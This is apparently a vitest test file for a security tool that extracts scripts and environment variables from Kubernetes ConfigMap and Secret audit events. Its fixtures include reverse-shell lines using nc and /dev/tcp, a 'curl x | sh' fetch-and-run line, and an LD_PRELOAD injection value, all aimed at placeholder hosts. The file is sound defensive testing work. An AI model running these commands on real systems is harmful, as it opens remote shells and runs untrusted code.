import { describe, expect, it } from 'vitest';
import { base64Text, configDataWorkload, MAX_KEYS, scriptCommand, shebangInterpreter } from './config-data-workload.js';

describe('shebangInterpreter', () => {
  it('name the interpreter of a #! line, through env and its options', () => {
    expect(shebangInterpreter('#!/bin/bash\nid')).toEqual(['bash', '-c']);
    expect(shebangInterpreter('#! /bin/sh -e\nid')).toEqual(['sh', '-c']);
    expect(shebangInterpreter('#!/usr/bin/env python3\nimport os')).toEqual(['python3', '-c']);
    expect(shebangInterpreter('#!/usr/bin/env -S perl -w\nprint 1')).toEqual(['perl', '-e']);
    expect(shebangInterpreter('#!/bin/busybox sh\nid')).toEqual(['sh', '-c']);
    expect(shebangInterpreter('#!/usr/bin/python3.11')).toEqual(['python3.11', '-c']);
  });
  it('give null for no #! line or an interpreter not known here', () => {
    expect(shebangInterpreter('id')).toBeNull();
    expect(shebangInterpreter(' #!/bin/sh')).toBeNull();
    expect(shebangInterpreter('#!/usr/bin/awk -f')).toBeNull();
    expect(shebangInterpreter('#!')).toBeNull();
  });
});

describe('scriptCommand', () => {
  it('read a script by its #! line, else by its key extension', () => {
    expect(scriptCommand('run', '#!/bin/bash\ncurl x | sh')).toEqual(['bash', '-c', '#!/bin/bash\ncurl x | sh']);
    expect(scriptCommand('entry.sh', 'curl x | sh')).toEqual(['sh', '-c', 'curl x | sh']);
    expect(scriptCommand('x.PY', 'import os')).toEqual(['python3', '-c', 'import os']);
    expect(scriptCommand('boot.rb', 'x')).toEqual(['ruby', '-e', 'x']);
  });
  it('leave configuration files, certificates and extensionless values', () => {
    expect(scriptCommand('nginx.conf', 'server { listen 80; }')).toBeNull();
    expect(scriptCommand('ca.crt', '-----BEGIN CERTIFICATE-----')).toBeNull();
    expect(scriptCommand('config.json', '{"a":1}')).toBeNull();
    expect(scriptCommand('LD_PRELOAD', '/tmp/x.so')).toBeNull();
    expect(scriptCommand('toString', 'x')).toBeNull();
  });
});

describe('configDataWorkload', () => {
  const audit = (data: unknown, resource = 'configmaps'): Record<string, unknown> => ({ objectRef: { resource, name: 'x' }, requestObject: { kind: 'ConfigMap', data } });
  const read = (a: Record<string, unknown>): { ok: boolean; commands: unknown[]; env: string[] } => {
    const commands: Array<string | unknown[]> = [];
    const env: string[] = [];
    const ok = configDataWorkload(a, commands, (k, v) => env.push(`${k}=${v}`));
    return { ok, commands, env };
  };
  it('give scripts as commands and variable-named keys as variables', () => {
    expect(read(audit({ 'entry.sh': 'curl x | sh', LD_PRELOAD: '/tmp/x.so', 'app.conf': 'a=b', 'not-a-var': 'y', n: 3 }))).toEqual({
      ok: true, commands: [['sh', '-c', 'curl x | sh']], env: ['LD_PRELOAD=/tmp/x.so'],
    });
  });
  it('read a JSON Patch of a ConfigMap as what it writes', () => {
    expect(read({ objectRef: { resource: 'configmaps' }, requestObject: [{ op: 'add', path: '/data/run.sh', value: 'nc -e /bin/sh h 4444' }] }).commands).toEqual([['sh', '-c', 'nc -e /bin/sh h 4444']]);
  });
  it('read a Secret: stringData as it is, data and a ConfigMap binaryData as base64 of text', () => {
    const b64 = (x: string): string => Buffer.from(x).toString('base64');
    const secret = (body: Record<string, unknown>): Record<string, unknown> => ({ objectRef: { resource: 'secrets', name: 's' }, requestObject: { kind: 'Secret', ...body } });
    expect(read(secret({ stringData: { 'hook.sh': 'curl x | sh', LD_PRELOAD: '/host/x.so' } }))).toEqual({ ok: true, commands: [['sh', '-c', 'curl x | sh']], env: ['LD_PRELOAD=/host/x.so'] });
    expect(read(secret({ data: { start: b64('#!/bin/bash\nbash -i >& /dev/tcp/h/4444 0>&1'), AWS_REGION: b64('us-east-1') } }))).toEqual({
      ok: true, commands: [['bash', '-c', '#!/bin/bash\nbash -i >& /dev/tcp/h/4444 0>&1']], env: ['AWS_REGION=us-east-1'],
    });
    expect(read({ objectRef: { resource: 'configmaps' }, requestObject: { binaryData: { 'x.sh': b64('nc -e /bin/sh h 4444') } } }).commands).toEqual([['sh', '-c', 'nc -e /bin/sh h 4444']]);
    // Binary, not base64, or a Secret's data read as if it were plain: left.
    expect(read(secret({ data: { 'k.sh': Buffer.from([0, 1, 2, 0xff]).toString('base64'), 'x.sh': 'curl x | sh', TOKEN: 'not base64!' } }))).toEqual({ ok: true, commands: [], env: [] });
    expect(read(audit({ 'entry.sh': b64('id') }, 'secrets')).commands).toEqual([['sh', '-c', 'id']]);
  });
  it('decode clean base64 of UTF-8 text only', () => {
    expect(base64Text('aWQ=')).toBe('id');
    expect(base64Text('aWQ')).toBe('id');
    expect(base64Text('aW Q=')).toBeNull();
    expect(base64Text('AAEC')).toBeNull();
    expect(base64Text('')).toBe('');
  });
  it('read nothing of other resources or an object without data', () => {
    expect(read(audit({ 'entry.sh': 'id' }, 'pods')).ok).toBe(false);
    expect(read({ objectRef: [{ resource: 'configmaps' }], requestObject: { data: { 'a.sh': 'id' } } }).ok).toBe(false);
    expect(read(audit(['x'])).ok).toBe(false);
    expect(read({ objectRef: { resource: 'configmaps' } }).ok).toBe(false);
  });
  it('look at MAX_KEYS entries at most', () => {
    const data: Record<string, string> = {};
    for (let i = 0; i < MAX_KEYS + 10; i++) data[`s${i}.sh`] = 'id';
    expect(read(audit(data)).commands.length).toBe(MAX_KEYS);
  });
});
